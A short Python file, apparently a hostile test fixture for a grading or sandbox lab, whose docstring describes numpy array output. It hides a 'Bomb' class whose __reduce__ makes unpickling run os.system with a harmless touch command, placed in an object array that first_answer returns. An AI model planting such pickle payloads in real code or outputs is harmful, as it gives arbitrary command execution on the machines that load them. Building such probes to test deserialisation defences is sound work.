"""Returns numpy object arrays and saves pickles as arrays."""

import numpy as np
class Bomb:
    def __reduce__(self):
        import os
        return os.system, ('touch /tmp/gatelab-hostile-was-here',)
def first_answer(*args): return np.array([Bomb()], dtype=object), np.zeros(3), {'i': np.float64('nan')}
